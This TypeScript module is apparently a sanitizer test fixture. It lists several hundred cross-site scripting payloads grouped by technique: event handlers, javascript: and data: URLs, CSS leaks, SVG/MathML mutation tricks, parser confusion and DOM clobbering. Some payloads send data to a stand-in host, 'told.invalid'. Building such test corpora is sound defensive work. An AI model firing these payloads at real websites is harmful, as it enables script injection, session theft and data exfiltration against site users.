/**
 * Hostile HTML, by the trick it plays. Whatever runs calls `__xss()` in the page's window or, from a frame, in the window above;
 * whatever fetches, sends or goes elsewhere does so to TOLD. Neither may ever happen.
 */
export const TOLD = 'https://told.invalid/';

const RUN = '__xss()';
const UP = 'top.__xss()';
const BASE64_SCRIPT = Buffer.from(`<script>${UP}</script>`).toString('base64');
const BASE64_SVG = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${UP}"/>`).toString('base64');
const decimal = (text: string): string => [...text].map((letter) => `&#${letter.charCodeAt(0)};`).join('');
const hex = (text: string): string => [...text].map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('');
const link = (address: string): string => `<a href="${address}">click</a>`;

const TAGS = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script >${RUN}</script >`, `<script\t>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`, `<script type="module">${RUN}</script>`, `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src="${TOLD}x.js"></script>`, `<script src=//told.invalid/x.js></script>`,
  `<script async defer nomodule="" crossorigin>${RUN}</script>`, `<script language="JavaScript">${RUN}</script>`,
  `<script>/*</script><script>*/${RUN}</script>`, `<link rel="stylesheet" href="${TOLD}x.css">`,
  `<link rel="import" href="data:text/html,<script>${UP}</script>">`, `<link rel="prefetch" href="${TOLD}">`,
  `<link rel="icon" href="${TOLD}i.png">`, `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=${TOLD}">`, `<meta http-equiv="Set-Cookie" content="a=b">`,
  `<meta http-equiv=refresh content='0;url=data:text/html,<script>${UP}</script>'>`, `<base href="${TOLD}">`,
  `<base href="javascript:/a/-${RUN}///////"><a href="#">click</a>`, '<base target="__xss">',
  `<object data="data:text/html;base64,${BASE64_SCRIPT}"></object>`, `<object data="javascript:${UP}"></object>`,
  `<object type="text/html" data="${TOLD}"></object>`, `<object><param name="src" value="javascript:${UP}"></object>`,
  `<embed src="javascript:${UP}">`, `<embed src="data:image/svg+xml;base64,${BASE64_SVG}">`,
  `<embed code="${TOLD}x.swf" allowscriptaccess="always">`, `<applet code="javascript:${RUN}"></applet>`,
  `<frameset onload="${RUN}"><frame src="javascript:${UP}"></frameset>`, `<portal src="${TOLD}"></portal>`,
  `<fencedframe src="${TOLD}"></fencedframe>`, `<bgsound src="javascript:${RUN}">`,
  `<isindex type="image" src="${TOLD}" onerror="${RUN}" action="javascript:${RUN}">`, `<layer src="${TOLD}"></layer>`,
  `<xml id="x"><x><img src="x" onerror="${RUN}"></x></xml>`,
];

const EVENTS = [
  `<img src="x" onerror="${RUN}">`, `<img src=x onerror=${RUN}>`, `<img src=x onerror='${RUN}'>`, `<img src=x onerror=\`${RUN}\`>`,
  `<img/src=x/onerror=${RUN}>`, `<img\nsrc=x\nonerror\n=\n${RUN}>`, `<img src=x ONERROR="${RUN}">`, `<img src=x OnErRoR="${RUN}">`,
  `<img src=x onerror="${decimal(RUN)}">`, `<img src=x onerror="${hex(RUN)}">`, `<img src=x onerror="&#x5f;&#x5f;xss&lpar;&rpar;">`,
  `<img src=x onerror\u0000="${RUN}">`, `<img src=x\fonerror="${RUN}">`, `<img src=x \u000bonerror="${RUN}">`,
  `<img src=x / / onerror="${RUN}">`, `<img src=x title="" onerror="${RUN}" a="">`, `<img src=x"onerror="${RUN}">`,
  `<img src="x" onload="${RUN}" onerror="${RUN}" srcset="data:image/gif;base64,R0lGODlhAQABAAAAACw= 1x">`,
  `<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=${RUN}>`, `<image src=x onerror="${RUN}">`,
  `<body onload="${RUN}">`, `<body onpageshow="${RUN}">`, `<body onhashchange="${RUN}"><a href="#y">click</a>`,
  `<body onfocus="${RUN}" onresize="${RUN}" onscroll="${RUN}">`, `<html onmouseover="${RUN}">`, `<p onclick="${RUN}">click</p>`,
  `<p onmouseover="${RUN}">hover</p>`, `<p onpointerenter="${RUN}">hover</p>`, `<p onmouseenter="${RUN}" onmouseleave="${RUN}">hover</p>`,
  `<p tabindex="0" onfocus="${RUN}" autofocus>focus</p>`, `<p contenteditable onfocus="${RUN}" onbeforeinput="${RUN}" autofocus>focus</p>`,
  `<p draggable="true" ondragstart="${RUN}">drag</p>`, `<p oncontextmenu="${RUN}" ondblclick="${RUN}" onauxclick="${RUN}">click</p>`,
  `<p style="animation:x 1s" onanimationstart="${RUN}">x</p><style>@keyframes x{}</style>`,
  `<p style="transition:color 1s" ontransitionend="${RUN}">x</p>`, `<div onbeforematch="${RUN}" hidden="until-found">x</div>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`, `<details ontoggle="${RUN}"><summary>click</summary>x</details>`,
  `<div popover id="pop" onbeforetoggle="${RUN}">x</div><button popovertarget="pop">click</button>`, `<input autofocus onfocus="${RUN}">`,
  `<input onblur="${RUN}" autofocus><input autofocus>`, `<select autofocus onfocus="${RUN}"><option>x</option></select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`, `<keygen autofocus onfocus="${RUN}">`, `<video src=x onerror="${RUN}"></video>`,
  `<video><source onerror="${RUN}"></video>`, `<video poster="javascript:${RUN}"></video>`, `<video poster="${TOLD}p.png"></video>`,
  `<audio src=x onerror="${RUN}" onloadstart="${RUN}">`,
  `<audio controls autoplay oncanplay="${RUN}" src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEARKwAAIhYAQACABAAZGF0YQ=="></audio>`,
  `<video><track default oncuechange="${RUN}" src="${TOLD}t.vtt"></video>`, `<marquee onstart="${RUN}">x</marquee>`,
  `<marquee loop="1" width="0" onfinish="${RUN}" onbounce="${RUN}">x</marquee>`,
  `<dialog open oncancel="${RUN}" onclose="${RUN}">x</dialog>`, `<meter onmouseover="${RUN}">x</meter>`,
  `<a href="/x" onclick="${RUN}">click</a>`, `<a onmousedown="${RUN}" onpointerup="${RUN}">click</a>`,
  `<custom-tag onclick="${RUN}" onmouseover="${RUN}">click</custom-tag>`, `<th onmouseover="${RUN}">x</th>`,
  `<table onclick="${RUN}"><tr><td onclick="${RUN}">click</td></tr></table>`,
];

/** Addresses that are none: as a link they run something, or lead where no browser is to be led. */
export const XSS_LINKS: readonly string[] = [
  `javascript:${RUN}`, `JavaScript:${RUN}`, `JAVASCRIPT:${RUN}`, ` javascript:${RUN}`, `\tjavascript:${RUN}`, `\njavascript:${RUN}`,
  `\u0001javascript:${RUN}`, `\u001fjavascript:${RUN}`, `\u0000javascript:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`, `j&#97;vascript:${RUN}`, `&#106;avascript:${RUN}`, `&#x6A;avascript:${RUN}`, `&#0000106avascript:${RUN}`,
  `&#x6a&#x61&#x76&#x61script:${RUN}`, `javascript&colon;${RUN}`, `javascript&#58;${RUN}`, `javascript&#x3A;${RUN}`,
  `java&Tab;script:${RUN}`, `java&NewLine;script:${RUN}`, `javascript:${RUN}//https://campus.example/`,
  `javascript://campus.example/%0a${RUN}`, `javascript:/*--&gt;*/${RUN}`, `javascript:'&lt;img src=x onerror=${RUN}&gt;'`,
  `javascript:%5f%5fxss()`, `javascript:void(${RUN})`, `&Tab;javascript&colon;${RUN}`, `\u00a0javascript:${RUN}`, `\ufeffjavascript:${RUN}`,
  `\u2028javascript:${RUN}`, `java\u00adscript:${RUN}`, `ja\u0000vascript:${RUN}`, `jav\u200bascript:${RUN}`, `vbscript:${RUN}`,
  `livescript:${RUN}`, `mocha:${RUN}`, `data:text/html,<script>${UP}</script>`, `data:text/html;base64,${BASE64_SCRIPT}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${UP}'/>`, `DATA:text/html;charset=utf-8,<script>${UP}</script>`,
  `data:;base64,${BASE64_SCRIPT}`, `blob:https://campus.example/x`, `filesystem:https://campus.example/x`, `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`, `jar:javascript:${RUN}!/`, `intent:#Intent;S.browser_fallback_url=javascript:${RUN};end`,
  `about:blank#<script>${RUN}</script>`, `ｊａｖａｓｃｒｉｐｔ:${RUN}`,
];

const PROTOCOLS = XSS_LINKS.map(link);

const ADDRESSES = [
  `<form action="javascript:${RUN}"><button>click</button></form>`, `<form><button formaction="javascript:${RUN}">click</button></form>`,
  `<form id="f1"></form><button form="f1" formaction="javascript:${RUN}">click</button>`,
  `<input type="submit" formaction="javascript:${RUN}" value="click">`,
  `<input type="image" src="${TOLD}b.png" formaction="javascript:${RUN}">`,
  `<form action="${TOLD}"><input name="password"><button>click</button></form>`, `<isindex action="javascript:${RUN}">`,
  `<iframe src="javascript:${UP}"></iframe>`, `<iframe srcdoc="<script>${UP}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${UP}&gt;"></iframe>`, `<iframe src="data:text/html,<script>${UP}</script>"></iframe>`,
  `<iframe onload="${RUN}"></iframe>`, `<iframe src="https://www.youtube-nocookie.com.told.invalid/"></iframe>`,
  `<iframe src="https://www.youtube-nocookie.com@told.invalid/"></iframe>`, `<iframe src="//told.invalid/"></iframe>`,
  `<iframe src="\\\\told.invalid\\"></iframe>`,
  `<iframe src="https://www.youtube-nocookie.com/" srcdoc="<script>${UP}</script>" onload="${RUN}"></iframe>`,
  `<iframe src="https://www.youtube-nocookie.com\\@told.invalid/"></iframe>`,
  `<iframe src="https://told.invalid#www.youtube-nocookie.com"></iframe>`, `<img src="${TOLD}p.png">`,
  `<img srcset="${TOLD}p.png 1x, x 2x" src="x">`, `<img src="//told.invalid/p.png">`, `<img src="/api/Content/../../told.invalid">`,
  `<img src="/\\told.invalid/p.png">`, `<img lowsrc="${TOLD}p.png" dynsrc="${TOLD}p.png" longdesc="javascript:${RUN}">`,
  `<picture><source srcset="${TOLD}p.png"><img src="x" onerror="${RUN}"></picture>`,
  `<img src="x" usemap="#m"><map name="m"><area shape="default" href="javascript:${RUN}" alt="click"></map>`,
  `<a href="/x" ping="${TOLD}">click</a>`, `<a href="/x" attributionsrc="${TOLD}">click</a>`,
  `<a href="/x" download="x.html" target="_top">click</a>`,
  `<q cite="javascript:${RUN}">x</q><blockquote cite="javascript:${RUN}">x</blockquote>`,
  `<table background="${TOLD}p.png"><tr><td background="javascript:${RUN}">x</td></tr></table>`, `<body background="${TOLD}p.png">`,
  `<command icon="${TOLD}p.png" onclick="${RUN}">`,
  `<button type="button" command="show-modal" commandfor="x" onclick="${RUN}">click</button>`,
];

const CSS = [
  `<style>*{background:url(${TOLD}c)}</style>`, `<style>@import "${TOLD}c.css";</style>`, `<style><img src=x onerror=${RUN}></style>`,
  `<style></style><img src=x onerror=${RUN}></style>`, `<p style="background:url(${TOLD}c)">x</p>`,
  `<p style="background:url('javascript:${RUN}')">x</p>`, `<p style="width:expression(${RUN})">x</p>`,
  `<p style="-moz-binding:url(${TOLD}x.xml#x)">x</p>`, `<p style="behavior:url(${TOLD}x.htc)">x</p>`,
  `<p style="b\\61ckground:url(${TOLD}c)">x</p>`, `<p style="position:fixed;inset:0;z-index:99999;background:red">cover</p>`,
  `<style>@font-face{font-family:x;src:url(${TOLD}f)}*{font-family:x}</style>`,
  `<style>input[value^=a]{background:url(${TOLD}a)}</style><input value="a">`, `<p style="list-style:url(${TOLD}l)">x</p>`,
  `<style media="x" onload="${RUN}">*{}</style>`, `<p class="modal-backdrop" style='content:url("${TOLD}c")'>x</p>`,
  `<style>/*</style><script>${RUN}</script>*/</style>`,
];

const NAMESPACES = [
  `<svg onload="${RUN}">`, `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><script>${decimal(RUN)}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`, `<svg><script xlink:href="data:text/javascript,${RUN}"></script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x="0" y="20">click</text></a></svg>`,
  `<svg><a href="javascript:${RUN}"><rect width="99" height="99"/></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">click</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${RUN}'/></svg>#x"/></svg>`,
  `<svg><use xlink:href="${TOLD}x.svg#x"/></svg>`, `<svg><image href="${TOLD}p.png"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${UP}</script>"></iframe></foreignObject></svg>`,
  `<svg><desc><img src=x onerror="${RUN}"></desc></svg>`, `<svg><title><img src=x onerror="${RUN}"></title></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${RUN}>"></svg>`, `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  `<svg><handler type="text/javascript">${RUN}</handler></svg>`, `<svg><discard onbegin="${RUN}"/></svg>`,
  `<svg><feImage href="${TOLD}p.png"/></svg>`, `<svg:svg onload="${RUN}"></svg:svg>`,
  `<math><a xlink:href="javascript:${RUN}">click</a></math>`, `<math href="javascript:${RUN}">click</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">click</maction></math>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></style></mglyph></table>`,
  `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  `<math><mi><style><img src=x onerror="${RUN}"></style></mi></math>`, `<svg><math><mtext><style><img src=x onerror=${RUN}>`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='${RUN}'>">`,
  `<svg><font color="x"><img src=x onerror="${RUN}"></font></svg>`,
];

const PARSING = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<noscript><style></noscript><img src=x onerror=${RUN}></style>`, `<template><img src=x onerror="${RUN}"></template>`,
  `<template shadowrootmode="open"><img src=x onerror="${RUN}"></template>`,
  `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`, `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
  `<iframe><p title="</iframe><img src=x onerror=${RUN}>"></iframe>`, `<plaintext><img src=x onerror="${RUN}">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`, `<select><style></select><img src=x onerror=${RUN}></style>`,
  `<select><template><img src=x onerror="${RUN}"></template></select>`,
  `<option><style></option></select><img src=x onerror=${RUN}></style>`, `<!--><img src=x onerror="${RUN}">-->`,
  `<!---><img src=x onerror="${RUN}">-->`, `<!-- --!><img src=x onerror="${RUN}"> -->`, `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<!--<img title="--><img src=x onerror=${RUN}>">`, `<![CDATA[<img src=x onerror="${RUN}">]]>`,
  `<?xml version="1.0"?><img src=x onerror="${RUN}">`, `<?php echo '><img src=x onerror=${RUN}>'; ?>`,
  `<!doctype html><img src=x onerror="${RUN}">`, `</p/><img src=x onerror="${RUN}">`, `</ img src=x onerror="${RUN}">`,
  `<a href="x>click</a><img src=x onerror="${RUN}">`, `<p title="<img src=x onerror=${RUN}>">x</p>`,
  `<p title='"><img src=x onerror=${RUN}>'>x</p>`, `<img src="x" alt="\`><img src=x onerror=${RUN}>">`,
  `<img alt="<x" title="/><img src=x onerror=${RUN}>">`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<<script>${RUN}//<</script>`,
  `<script<script>>${RUN}</script>`, `<img src=x onerror="${RUN}"`, `<img src=x onerror=${RUN}//`, `<svg onload="${RUN}"`, `<script>${RUN}`,
  `"><img src=x onerror="${RUN}">`, `'-->"></style></script></title></textarea><svg onload=${RUN}>`, `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`, `\\u003cimg src=x onerror=${RUN}\\u003e`, `%3Cimg%20src=x%20onerror=${RUN}%3E`,
  `+ADw-img src=x onerror=${RUN}+AD4-`, `＜img src=x onerror=${RUN}＞`, `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `\u2039img src=x onerror=${RUN}\u203a`, `<\u0000script>${RUN}</script>`, `<s\u0000cript>${RUN}</s\u0000cript>`,
  `<\u0131mg src=x onerror="${RUN}">`, `<\u017fcript>${RUN}</\u017fcript>`, `${'<div>'.repeat(200)}<img src=x onerror="${RUN}">`,
  `${'<b><i>'.repeat(60)}<svg onload=${RUN}>`, `<table><td><a href="javascript:${RUN}"><table><td>click</a><img src=x onerror="${RUN}">`,
  `<p><table><p><svg onload="${RUN}"></table></p>`, `<a href="/x"><a href="javascript:${RUN}">click</a></a>`,
  `<pre>\n\n<img src=x onerror="${RUN}"></pre>`, `{{constructor.constructor('${RUN}')()}}`, '${__xss()}', '<%= __xss() %>',
  `</script><script>${RUN}</script>`, `<!--<script>${RUN}</script>`, `]]></script><script>${RUN}//`,
  `\u2028</script>\u2029<script>${RUN}</script>`,
];

const CLOBBERING = [
  '<a id="document-state">x</a>', '<p id="root">x</p>', '<form id="location" name="location"></form>',
  '<img name="getElementById" src="x">', '<a id="__xss"></a><a id="__xss" name="x" href="javascript:1"></a>',
  '<form name="body"><input name="childNodes"></form>', '<a name="currentScript" id="currentScript">x</a>',
  '<input name="cookie"><input id="defaultView">',
  `<script type="application/json" id="document-state">{"session":{"roles":["Administrator"]}}</script>`,
  `<p id="__proto__" name="constructor">x</p>`,
  `<p slot="x" is="x-y" part="z" exportparts="z" nonce="x" itemprop="url" itemid="javascript:${RUN}">x</p>`,
  `<p data-hero="" data-fades="" aria-label="x" role="button" onclick="${RUN}">click</p>`,
  `<p accesskey="s" tabindex="1" onclick="${RUN}">click</p>`, '<p hidden inert class="visually-hidden">x</p>',
];

/** By trick; no payload stands twice. */
export const XSS_BY_TRICK: Readonly<Record<string, readonly string[]>> = {
  tags: TAGS, events: EVENTS, protocols: PROTOCOLS, addresses: ADDRESSES,
  css: CSS, namespaces: NAMESPACES, parsing: PARSING, clobbering: CLOBBERING,
};

export const XSS_PAYLOADS: readonly string[] = Object.values(XSS_BY_TRICK).flat();

const LONGEST_PIECE = 4000;

/** What nothing can close stands last. */
const STACKED = [...XSS_PAYLOADS].sort((one, other) => Number(one.includes('<plaintext')) - Number(other.includes('<plaintext')));

/** One word before each payload of XSS_PIECES: where all of them show, none of the payloads has hidden another. */
export const XSS_WORDS: readonly string[] = STACKED.map((_, index) => `kept ${index}.`);

/** All payloads in few texts, none longer than the shortest HTML field of the site's settings takes. */
export const XSS_PIECES: readonly string[] = STACKED.reduce<string[]>((pieces, payload, index) => {
  const next = `<p>${XSS_WORDS[index] ?? ''}</p><p>${payload}${ending(payload)}</p>`;
  const last = pieces.at(-1) ?? '';
  if (last.length + next.length > LONGEST_PIECE) pieces.push(next);
  else pieces[Math.max(0, pieces.length - 1)] = last + next;
  return pieces;
}, []);

/** Ends the tag, the comment and the elements that the payload leaves open. */
function ending(payload: string): string {
  const isOpen = payload.lastIndexOf('<') > payload.lastIndexOf('>');
  const names = [...payload.matchAll(/<([a-z][a-z-]*)/gi)].map(([, name = '']) => `</${name}>`).reverse();
  return `${isOpen ? '>' : ''}${payload.includes('<!--') ? '-->' : ''}${names.join('')}`;
}
